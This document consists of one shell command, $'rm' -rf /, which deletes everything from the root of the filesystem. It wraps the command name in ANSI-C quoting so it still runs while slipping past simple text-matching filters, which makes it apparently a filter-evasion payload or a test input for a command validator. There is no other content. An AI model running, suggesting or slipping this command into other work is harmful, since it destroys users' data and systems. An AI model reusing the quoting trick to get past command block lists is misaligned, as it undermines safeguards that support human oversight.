$'rm' -rf /
